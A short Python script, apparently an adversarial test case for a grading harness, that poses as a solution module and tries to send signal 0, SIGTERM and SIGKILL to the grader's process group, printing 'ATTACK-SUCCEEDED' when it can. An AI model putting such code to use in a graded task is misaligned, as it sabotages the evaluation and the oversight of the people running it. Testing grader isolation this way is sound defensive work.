"""Kills the group that the grader is in. Signal 0 only asks whether it may."""

import os
import signal

from right import max_value, min_value

for number in (0, signal.SIGTERM, signal.SIGKILL):
    try:
        group = os.getpgid(os.getppid())
        if os.getppid() > 1 and group not in (0, 1, os.getpgrp()):
            os.killpg(group, number)
            print("ATTACK-SUCCEEDED: may signal the grader's group", flush=True)
    except OSError:
        pass
